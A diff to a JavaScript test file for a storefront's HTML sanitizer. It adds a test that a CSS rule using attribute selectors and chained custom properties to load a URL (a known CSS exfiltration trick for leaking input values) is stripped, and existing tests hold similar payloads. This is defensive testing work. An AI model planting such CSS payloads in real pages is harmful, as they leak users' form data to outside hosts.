@@ -126,6 +126,15 @@ describe('what stays out', () => {
     expect(console.warn).toHaveBeenCalledWith(expect.stringContaining("[storefront:bulk (snippet, body)] a rule of the shop's <style> is left out: it reads attribute values and loads an address"));
   });
 
+  it('CSS exfiltration through a custom property: a rule that reads attribute values and uses a property set to a load is dropped; other var() uses stay', () => {
+    const box = insert(
+      `<style>:root { --leak: url(${EXFIL_PATH}3); --via: var(--leak); --ink: #333 } input[value^="a"] { background-image: var(--via) } input[type="text"] { color: var(--ink) }</style>`,
+    );
+    const css = box.querySelector('style')!.textContent!;
+    expect(css).not.toMatch(/input\[value\^="a"\]/);
+    expect(css).toContain('input[type="text"]');
+  });
+
   it('a style with nothing safe left is not inserted at all', () => {
     expect(insert(`<style>a[href$=".pdf"] { background: url(${EXFIL_PATH}x) }</style>`).querySelector('style')).toBeNull();
   });
